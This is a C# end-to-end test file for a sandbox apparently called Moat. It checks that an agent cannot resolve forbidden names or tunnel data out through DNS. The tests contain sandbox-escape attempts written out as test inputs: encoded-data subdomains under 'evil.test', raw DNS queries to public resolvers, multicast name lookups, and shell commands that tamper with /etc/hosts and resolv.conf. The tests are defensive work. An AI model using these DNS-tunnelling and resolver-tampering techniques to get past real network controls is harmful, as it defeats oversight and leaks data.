using System.Text.Json;
using Moat.EndToEnd.Tests.Harness;

namespace Moat.EndToEnd.Tests;

/// <summary>4b: names as a way out.</summary>
public class DnsTests
{
    public static TheoryData<string> Users() => Binary.Users();

    private const string Ask = """
        def question(name, kind):
            labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".") if l)
            return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)

        # rcode and number of answers; "silent" where nobody answers, "refused" where nobody listens.
        def verdict(got):
            return f"rcode {got[3] & 15} answers {struct.unpack('>H', got[6:8])[0]}"

        def udp(server, name, kind=1):
            s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(3)
            try:
                s.sendto(question(name, kind), (server, 53))
                return verdict(s.recv(4096))
            except socket.timeout:
                return "silent"
            except OSError:
                return "refused"

        def tcp(server, name, kind=1):
            try:
                s = dial((server, 53), socket.AF_INET6 if ":" in server else socket.AF_INET)
                q = question(name, kind)
                s.sendall(struct.pack(">H", len(q)) + q)
                f = s.makefile("rb")
                return verdict(f.read(int.from_bytes(f.read(2), "big")))
            except OSError:
                return "refused"

        SERVERS = ["127.0.0.1", "8.8.8.8", "::1", "2001:4860:4860::8888"]

        """;

    [Theory, MemberData(nameof(Users))]
    public async Task T_21_no_resolver_of_the_agents_choice_answers_for_an_unlisted_name(string user)
    {
        await using var scene = await Scene.StartAsync(user);
        var lines = await SandboxNet.RunAsync(scene, Ask + $$"""
            for server in SERVERS:
                for name in ["{{Scene.ForbiddenHost}}", "c2VjcmV0LWRhdGEtZ29lcy1vdXQ.evil.test", "localhost.evil.test"]:
                    print(udp(server, name)), print(tcp(server, name))
            for server in SERVERS: print("allowed", udp(server, "{{Scene.ApiHost}}"), tcp(server, "{{Scene.ApiHost}}"))
            """);
        Assert.Equal(28, lines.Length);
        Assert.All(lines[..24], l => Assert.Matches("^(rcode [235] answers 0|refused|silent)$", l));
        // The run's own resolver does answer, so that the denials above mean something.
        Assert.Contains("allowed rcode 0 answers 1 rcode 0 answers 1", lines);
    }

    [Theory, MemberData(nameof(Users))]
    public async Task T_23_no_type_but_an_address_carries_anything(string user)
    {
        await using var scene = await Scene.StartAsync(user);
        var lines = await SandboxNet.RunAsync(scene, Ask + $$"""
            kinds = {"NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "MX": 15, "TXT": 16, "SRV": 33, "NAPTR": 35, "DS": 43, "TLSA": 52, "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255, "private": 65280}
            for server in SERVERS:
                for name in ["{{Scene.ApiHost}}", "{{Scene.ForbiddenHost}}"]:
                    for kind in kinds.values():
                        print(udp(server, name, kind))
                        print(tcp(server, name, kind))
            """);
        Assert.Equal(4 * 2 * 15 * 2, lines.Length);
        Assert.All(lines, l => Assert.Matches("^(rcode [0-5] answers 0|refused|silent)$", l));
    }

    [Theory, MemberData(nameof(Users))]
    public async Task T_23_names_under_an_allowed_wildcard_cannot_carry_much_out(string user)
    {
        await using var scene = await Scene.StartAsync(user, """
                - "*.wild.test"
            """);
        var lines = await SandboxNet.RunAsync(scene, Ask + """
            import base64
            print(udp("127.0.0.1", "plain.wild.test"))
            print(udp("127.0.0.1", base64.b32encode(os.urandom(25)).decode().lower() + ".wild.test"))
            print(udp("127.0.0.1", "a" * 63 + ".wild.test"))
            print(udp("127.0.0.1", ".".join(["a" * 60] * 4) + ".wild.test"))
            print(sum(udp("127.0.0.1", f"n{i}.wild.test") == "rcode 0 answers 1" for i in range(200)))
            """);
        Assert.Equal("rcode 0 answers 1", lines[0]);
        Assert.All(lines[1..4], l => Assert.Matches("^(rcode [1235] answers 0|silent)$", l));
        Assert.InRange(int.Parse(lines[4], System.Globalization.CultureInfo.InvariantCulture), 1, 120);
        var audit = await scene.Home.MoatAsync("audit", "--json");
        Assert.Contains(JsonDocument.Parse(audit.Out).RootElement.EnumerateArray(), r =>
            r.GetProperty("type").GetString() == "dns.query" && r.GetProperty("payload").GetRawText().Contains("coded data", StringComparison.Ordinal));
    }

    [Theory, MemberData(nameof(Users))]
    public async Task T_24_edits_of_the_resolvers_files_and_other_name_services_change_nothing(string user)
    {
        await using var scene = await Scene.StartAsync(user);
        var result = await scene.Home.ScriptAsync($$"""
            for f in /etc/hosts /etc/resolv.conf /etc/nsswitch.conf /etc/gai.conf /etc/host.conf; do
                (echo "127.0.0.1 {{Scene.ForbiddenHost}}" >>$f) 2>/dev/null && echo wrote $f
                (rm -f $f && test ! -e $f) 2>/dev/null && test -e /usr$f && echo removed $f
                mv /tmp/new $f 2>/dev/null && echo moved $f
            done
            chmod u+w /etc /etc/hosts 2>/dev/null; (echo x >>/etc/hosts) 2>/dev/null && echo wrote after chmod
            echo "127.0.0.1 {{Scene.ForbiddenHost}}" >/tmp/hosts; mount --bind /tmp/hosts /etc/hosts 2>/dev/null && echo mounted
            getent hosts {{Scene.ForbiddenHost}} && echo resolved
            HOSTALIASES=/tmp/hosts LOCALDOMAIN=evil.test RES_OPTIONS=use-vc getent hosts forbidden && echo alias
            exit 0
            """);
        Assert.Equal("", result.Out);
        var lines = await SandboxNet.RunAsync(scene, Ask + """
            for group, family, port in [("224.0.0.251", socket.AF_INET, 5353), ("224.0.0.252", socket.AF_INET, 5355), ("ff02::fb", socket.AF_INET6, 5353)]:
                s = socket.socket(family, socket.SOCK_DGRAM)
                s.settimeout(0.2)
                try:
                    s.sendto(question("printer.local", 255), (group, port))
                    print("answer", s.recv(4096))
                except OSError:
                    print("nothing")
            """);
        Assert.Equal(["nothing", "nothing", "nothing"], lines);
    }
}
